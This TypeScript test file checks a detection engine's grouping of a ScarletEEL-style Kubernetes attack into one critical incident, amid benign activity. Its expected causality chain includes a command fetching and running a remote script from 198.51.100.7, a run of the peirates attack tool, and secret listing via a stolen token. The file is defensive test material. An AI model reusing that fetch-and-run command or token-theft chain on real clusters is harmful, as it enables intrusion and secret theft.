import { describe, expect, it } from 'vitest'
import type { Incident, Signal } from '../../schemas/generated/types.ts'
import { correlate } from '../../services/core/correlate/reducer.ts'
import { renderIncident } from '../../services/core/correlate/render-incident.ts'
import { DEFAULT_CORRELATE_SETTINGS } from '../../services/core/correlate/settings.ts'
import { emptyState } from '../../services/core/correlate/state.ts'
import { plainStyle } from '../../services/core/terminal-text.ts'
import { ATTACK, ATTACK_AND_BENIGN } from '../support/scarleteel-signals.ts'
import { CLUSTER } from '../support/signals.ts'

function run(signals: readonly Signal[]): readonly Incident[] {
  const state = emptyState(CLUSTER.id)
  const latest = new Map<string, Incident>()
  for (let at = 0; at < signals.length; at += 7) {
    const { incidents } = correlate(
      state,
      signals.slice(at, at + 7),
      Date.UTC(2027, 0) * 1000,
      DEFAULT_CORRELATE_SETTINGS
    )
    for (const incident of incidents) latest.set(incident.id, incident)
  }
  return [...latest.values()].filter(({ status }) => status === 'open')
}

describe('an attack after ScarletEEL, amid benign work on the same node, image, address and account', () => {
  const incidents = run(ATTACK_AND_BENIGN)
  const [incident] = incidents

  it('is exactly one critical incident of all its signals and no other, and nothing else is one', () => {
    expect(incidents.map(({ severity }) => severity)).toEqual(['critical'])
    expect(incident?.timeline.flatMap(({ signals }) => signals).sort()).toEqual(ATTACK.map(({ id }) => id).sort())
  })

  it('mixes what the API saw and what the container runtime saw, in order of time, repetitions counted', () => {
    expect(incident?.sources).toEqual(['audit', 'runtime'])
    expect(incident?.timeline.map(({ code, source, signals }) => `${code} ${source} ${signals.length}`)).toEqual([
      'R03 runtime 1',
      'R06 runtime 1',
      'R20 runtime 1',
      'R26 runtime 3',
      'R29 runtime 1',
      'R70 runtime 1',
      'R23 runtime 1',
      'A23 audit 1',
      'A05 audit 5',
      'A108 audit 1',
      'R60 runtime 1',
      'R65 runtime 1'
    ])
  })

  it('tells who caused what, from the notebook over the stolen token to the secrets', () => {
    const nodes = new Map((incident?.causality ?? []).map((node) => [node.id, node]))
    const secrets = [...nodes.values()].find(({ name }) => name.startsWith('secrets:list *'))
    const path: string[] = []
    for (let node = secrets; node !== undefined; node = nodes.get(node.parent ?? ''))
      path.unshift(`${node.type} ${node.name}`)
    expect(path).toEqual([
      'workload Deployment/data/jupyter',
      'pod data/jupyter-6d4cf56db6-x2x9k',
      'container notebook',
      'process /opt/conda/bin/jupyter-lab --ip=0.0.0.0',
      'process bash -c "$(dload 198.51.100.7/.bin/.g/.a.sh)"',
      'process ./peirates -c',
      'service_account data/jupyter',
      'request secrets:list *'
    ])
  })

  it('reads as it should', async () => {
    const text = incident === undefined ? '' : renderIncident(incident, { width: 120, style: plainStyle })
    await expect(`${text}\n`).toMatchFileSnapshot('correlate-scarleteel.txt')
  })

  it('is the same backwards and all at once', () => {
    const withoutRevisions = (list: readonly Incident[]) => JSON.stringify(list.map((one) => ({ ...one, revision: 0 })))
    expect(withoutRevisions(run(ATTACK_AND_BENIGN.toReversed()))).toBe(withoutRevisions(incidents))
  })
})
